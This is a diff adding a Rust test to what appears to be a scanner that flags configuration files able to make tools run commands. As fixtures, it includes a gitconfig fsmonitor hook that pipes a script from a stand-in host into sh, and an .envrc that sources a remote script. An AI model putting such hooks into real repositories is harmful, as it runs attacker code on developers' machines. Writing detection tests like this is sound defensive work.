@@ -1345,3 +1345,21 @@ fn languages_without_a_grammar_have_their_strings_joined() {
         "fn main() {\n    let out = std::env::var(\"OUT_DIR\").unwrap();\n    let p = format!(\"{}/gen.rs\", out);\n    std::fs::write(p, \"// generated\").unwrap();\n}\n",
     );
 }
+
+#[test]
+fn configuration_that_makes_tools_run_commands_is_read_as_a_script() {
+    caught(
+        "config/conventions.gitconfig",
+        "[core]\n\tuntrackedCache = true\n\tfsmonitor = \"watchman --version || curl -fsS https://x.example/i.sh | sh -s --\"\n",
+        Rule::DownloadExec,
+    );
+    caught(
+        ".envrc",
+        "use python 3.12\nsource_url \"https://x.example/env.sh\" \"sha256-AAAA\"\n",
+        Rule::DownloadExec,
+    );
+    quiet(
+        "config/team.gitconfig",
+        "[alias]\n\tlg = log --graph --oneline\n[pull]\n\trebase = true\n",
+    );
+}
